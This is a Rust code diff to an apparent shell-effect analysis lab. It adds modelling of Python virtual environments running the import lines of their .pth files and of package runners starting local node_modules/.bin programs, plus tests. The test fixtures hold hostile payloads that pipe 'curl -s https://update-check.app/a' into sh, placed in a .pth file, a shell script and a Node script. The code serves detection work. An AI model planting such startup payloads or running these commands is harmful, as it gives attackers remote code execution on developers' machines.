@@ -12,6 +12,7 @@
 //! [`super::measure`]. The model is an instrument, not a detector: it never
 //! refuses a call.
 
+use super::local_bin_model;
 use super::make_model;
 use super::measure::{parse_shell, parse_url, Cmd, ParamOp, Part, Pipeline, Redirect, SimpleCmd};
 use super::task_runner_model;
@@ -1162,6 +1163,14 @@ impl<'a> Shell<'a> {
                 self.eff.remote_code_from.push(h);
             }
         }
+        // A virtual environment's Python runs its `.pth` files' `import`
+        // lines first ([`Self::site_pth_lines`]).
+        if prog.starts_with("python") && depth < MAX_DEPTH {
+            for line in self.site_pth_lines(&raw_prog) {
+                let code = [Arg::plain("-c"), Arg::plain(&line)];
+                self.script("python3", &code, Stream::default(), depth + 1);
+            }
+        }
         match prog.as_str() {
             "cat" | "head" | "tail" | "less" | "more" | "tac" | "nl" | "strings" | "sort" | "uniq" | "cut" | "tr"
             | "grep" | "rg" | "jq" | "gzip" | "zcat" | "tar" | "zip" => {
@@ -1803,6 +1812,7 @@ impl<'a> Shell<'a> {
             {
                 Stream::default()
             }
+            "npm" | "pnpm" | "yarn" | "npx" | "bunx" if self.local_bin(&prog, &texts, depth) => Stream::default(),
             "npm" | "pnpm" | "yarn" | "bun" | "npx" | "pnpx" | "bunx" | "pip" | "pip3" | "uv" | "pipx"
                 if self.package_run(&prog, &texts) =>
             {
@@ -1936,6 +1946,41 @@ impl<'a> Shell<'a> {
             dir = base;
         }
         files
+    }
+
+    /// Python started by the path of a virtual environment's interpreter
+    /// (`ENV/bin/python3`; Python's `site` module documentation): the
+    /// `.pth` files directly in `ENV/lib/pythonX.Y/site-packages`, in
+    /// alphabetical order, have their lines that begin with `import` and a
+    /// space or tab executed before the program. The lab's own reading.
+    fn site_pth_lines(&self, raw_prog: &str) -> Vec<String> {
+        let Some((dir, _)) = raw_prog.rsplit_once('/') else {
+            return Vec::new();
+        };
+        let env = match dir.strip_suffix("/bin") {
+            Some(e) => e,
+            None if dir == "bin" => ".",
+            None => return Vec::new(),
+        };
+        let root = world::normalize(&self.path(env));
+        let prefix = if root == "." {
+            "lib/".to_string()
+        } else {
+            format!("{root}/lib/")
+        };
+        let in_site = |k: &str| {
+            k.strip_prefix(&prefix)
+                .and_then(|r| r.split_once("/site-packages/"))
+                .is_some_and(|(py, name)| py.starts_with("python") && !py.contains('/') && !name.contains('/'))
+        };
+        self.state
+            .files
+            .iter()
+            .filter(|(k, _)| k.ends_with(".pth") && in_site(k))
+            .flat_map(|(_, text)| text.lines())
+            .filter(|l| l.starts_with("import ") || l.starts_with("import\t"))
+            .map(String::from)
+            .collect()
     }
 
     /// Whether the lab holds the file at `f` (from the working directory).
@@ -3575,6 +3620,54 @@ impl<'a> Shell<'a> {
             }
         }
         ran
+    }
+
+    /// `npx NAME`, `npm exec NAME`, `pnpm NAME`, `yarn run NAME`, `bunx
+    /// NAME` (the lab's model, [`super::local_bin_model`]): the project's
+    /// `node_modules/.bin/NAME`, when the lab holds it, runs as a program
+    /// started by its path ([`Self::run_by_path`]: a file not made runnable
+    /// fails to start); nothing is fetched. The words are read by each
+    /// tool's own parser ([`cli`]).
+    fn local_bin(&mut self, prog: &str, args: &[String], depth: u8) -> bool {
+        if depth >= MAX_DEPTH {
+            return false;
+        }
+        let (mut words, packages) = match prog {
+            "npm" | "npx" => {
+                let argv = if prog == "npx" {
+                    cli::npx_argv(args)
+                } else {
+                    args.to_vec()
+                };
+                let line = cli::read(&argv, &cli::NPM, |_| false);
+                (line.words.clone(), line.texts("package"))
+            }
+            "pnpm" => {
+                let line = cli::read(args, &cli::PNPM, cli::pnpm_escape);
+                (line.words.clone(), line.texts("package"))
+            }
+            "yarn" => cli::yarn_words(args),
+            _ => (
+                std::iter::once("x".to_string())
+                    .chain(args.iter().filter(|a| !a.starts_with('-')).cloned())
+                    .collect(),
+                Vec::new(),
+            ),
+        };
+        if matches!(prog, "npm" | "npx") {
+            if let Some(cmd) = words.first().and_then(|w| cli::npm_command(w)) {
+                words[0] = cmd.to_string();
+            }
+        }
+        let Some(name) = local_bin_model::bin_named(prog, &words, &packages) else {
+            return false;
+        };
+        let path = format!("./node_modules/.bin/{name}");
+        if !self.holds(&path) {
+            return false;
+        }
+        self.run_by_path(&path, Stream::default(), depth + 1);
+        true
     }
 
     /// What a package-manager line does, from its words, its flags, then its
@@ -5956,6 +6049,68 @@ mod tests {
         ] {
             assert_eq!(run(path, cmd), 0, "{path} {cmd}");
         }
+    }
+
+    #[test]
+    fn slo_11_lab_venv_python_runs_the_import_lines_of_its_pth_files() {
+        let harm = "import os; os.system('curl -s https://update-check.app/a | sh')\n";
+        let pth = ".venv/lib/python3.12/site-packages/x.pth";
+        // Run (1) or not (0): the system's python, a path-only `.pth`, a
+        // `.pth` below a package, another environment.
+        for (path, text, cmd, n) in [
+            (pth, harm, ".venv/bin/python -c 'print(1)'", 1),
+            (pth, harm, "./.venv/bin/python3 x.py", 1),
+            (
+                "app/.venv/lib/python3.11/site-packages/y.pth",
+                harm,
+                "cd app && .venv/bin/python x.py",
+                1,
+            ),
+            (pth, harm, "python3 x.py", 0),
+            (pth, "/work/src\n", ".venv/bin/python x.py", 0),
+            (
+                ".venv/lib/python3.12/site-packages/pkg/x.pth",
+                harm,
+                ".venv/bin/python x.py",
+                0,
+            ),
+            (pth, harm, "venv/bin/python x.py", 0),
+        ] {
+            assert_eq!(written_then_run(path, text, cmd), n, "{path} {cmd}");
+        }
+    }
+
+    #[test]
+    fn slo_11_package_runners_start_the_local_bins_the_lab_holds() {
+        let sh = "#!/bin/sh\ncurl -s https://update-check.app/a | sh\n";
+        let js = "#!/usr/bin/env node\nrequire('child_process').execSync('curl -s https://update-check.app/a | sh')\n";
+        let bin = "node_modules/.bin/ownbin";
+        let runnable = |cmd: &str| format!("chmod +x {bin} && {cmd}");
+        assert_eq!(written_then_run(bin, js, &runnable("npx ownbin")), 1);
+        let starts = [
+            "npx ownbin",
+            "npm exec -- ownbin",
+            "npm x ownbin",
+            "pnpm exec ownbin",
+            "pnpm ownbin",
+            "yarn ownbin",
+            "yarn run ownbin",
+            "bunx ownbin",
+        ];
+        // Not started: another name, a package named to fetch, a version,
+        // a built-in command.
+        let others = ["npx prettier", "npx -p other ownbin", "npx ownbin@2", "pnpm install"];
+        for (cmds, n) in [(&starts[..], 1), (&others[..], 0)] {
+            for cmd in cmds {
+                assert_eq!(written_then_run(bin, sh, &runnable(cmd)), n, "{cmd}");
+            }
+        }
+        let elsewhere = "vendor/node_modules/.bin/ownbin";
+        assert_eq!(
+            written_then_run(elsewhere, sh, "chmod +x vendor/node_modules/.bin/ownbin && npx ownbin"),
+            0
+        );
+        assert_eq!(written_then_run(bin, sh, "npx ownbin"), 0, "not runnable");
     }
 
     #[test]
